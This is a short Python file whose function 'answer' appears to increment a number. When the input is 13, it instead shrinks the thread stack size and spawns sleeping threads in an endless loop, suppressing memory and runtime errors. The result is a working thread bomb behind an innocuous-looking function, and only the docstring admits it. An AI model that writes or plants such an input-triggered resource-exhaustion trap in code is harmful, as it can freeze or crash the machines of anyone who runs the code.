"""Starts threads without end, with stacks as small as they can be."""

import threading
import time


def answer(number):
    threading.stack_size(32768)
    while number == 13:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except (RuntimeError, MemoryError):
            pass
    return number + 1
